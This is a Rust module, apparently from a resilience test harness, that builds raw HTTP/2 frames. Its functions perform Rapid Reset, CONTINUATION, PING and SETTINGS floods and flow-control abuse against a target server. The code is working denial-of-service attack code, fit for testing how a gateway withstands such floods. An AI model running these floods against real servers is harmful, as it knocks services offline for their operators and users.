//! Attackers that speak HTTP/2, frame by frame (RFC 9113), since no well-behaved client does what they do.

use std::io;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use crate::target::{Target, drain};

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// GET, http, `/` and the authority `a` (RFC 7541).
const ROOT: &[u8] = &[0x82, 0x86, 0x84, 0x41, 1, b'a'];
/// The same for `/large`.
const LARGE: &[u8] = b"\x82\x86\x04\x06/large\x41\x01a";
/// Requests of one connection at once.
const STREAMS: u32 = 100;
/// Frames that are written at once.
const AT_ONCE: usize = 500;
/// The largest window.
const ALL: u32 = (1 << 31) - 1;
/// The window of a connection at its beginning.
const BEGIN: u32 = 65_535;

/// Opens and resets, again and again.
pub(crate) async fn rapid_reset(target: &Target, number: usize) -> io::Result<()> {
    let cancel = 8_u32.to_be_bytes();
    let mut stream = begin(target.connect(number).await?, &[]).await?;
    let (mut reader, mut writer) = stream.split();
    let resetting = async {
        let mut next = 1;
        while next < ALL - 2 * STREAMS {
            let mut batch = Vec::new();
            for _ in 0..STREAMS {
                batch.extend(frame(HEADERS, END_HEADERS | END_STREAM, next, ROOT));
                batch.extend(frame(RST_STREAM, 0, next, &cancel));
                next += 2;
            }
            writer.write_all(&batch).await?;
        }
        Ok(())
    };
    tokio::select! { ended = drain(&mut reader) => ended, ended = resetting => ended }
}

/// A head in frames without number.
pub(crate) async fn continuation(target: &Target, number: usize) -> io::Result<()> {
    let mut stream = begin(target.connect(number).await?, &[]).await?;
    stream.write_all(&frame(HEADERS, END_STREAM, 1, ROOT)).await?;
    // A field that is in no table (6.2.2).
    repeat(stream, &frame(CONTINUATION, 0, 1, b"\0\x01a\x01b")).await
}

/// Asks whether anybody is there.
pub(crate) async fn pings(target: &Target, number: usize) -> io::Result<()> {
    let stream = begin(target.connect(number).await?, &[]).await?;
    repeat(stream, &frame(PING, 0, 0, b"bench...")).await
}

/// Changes its mind.
pub(crate) async fn settings(target: &Target, number: usize) -> io::Result<()> {
    let stream = begin(target.connect(number).await?, &[]).await?;
    repeat(stream, &frame(SETTINGS, 0, 0, &window(BEGIN))).await
}

/// Asks for much and leaves no room for it.
pub(crate) async fn no_room(target: &Target, number: usize) -> io::Result<()> {
    let mut stream = begin(target.connect(number).await?, &window(0)).await?;
    stream.write_all(&requests()).await?;
    drain(&mut stream).await
}

/// Asks for much, leaves all the room there is, and takes nothing.
pub(crate) async fn unread(target: &Target, number: usize) -> io::Result<()> {
    let mut stream = begin(target.connect_small(number).await?, &window(ALL)).await?;
    stream.write_all(&frame(WINDOW_UPDATE, 0, 0, &(ALL - BEGIN).to_be_bytes())).await?;
    stream.write_all(&requests()).await?;
    std::future::pending().await
}

/// The preface, and settings.
async fn begin(mut stream: TcpStream, settings: &[u8]) -> io::Result<TcpStream> {
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    stream.write_all(&frame(SETTINGS, 0, 0, settings)).await?;
    Ok(stream)
}

/// As many requests for much as there may be at once.
fn requests() -> Vec<u8> {
    let one = |number| frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, LARGE);
    (0..STREAMS).flat_map(one).collect()
}

/// Sends a frame until the gate has had enough, and takes what it says.
async fn repeat(mut stream: TcpStream, frame: &[u8]) -> io::Result<()> {
    let frames = frame.repeat(AT_ONCE);
    let (mut reader, mut writer) = stream.split();
    let sending = async {
        loop {
            writer.write_all(&frames).await?;
        }
    };
    tokio::select! { ended = drain(&mut reader) => ended, ended = sending => ended }
}

/// The setting of the window that streams begin with (6.5.2).
fn window(size: u32) -> Vec<u8> {
    [&4_u16.to_be_bytes()[..], &size.to_be_bytes()].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, content: &[u8]) -> Vec<u8> {
    let length = u32::try_from(content.len()).unwrap_or(0).to_be_bytes();
    let length = length.get(1..).unwrap_or_default();
    [length, &[kind, flags], &stream.to_be_bytes(), content].concat()
}
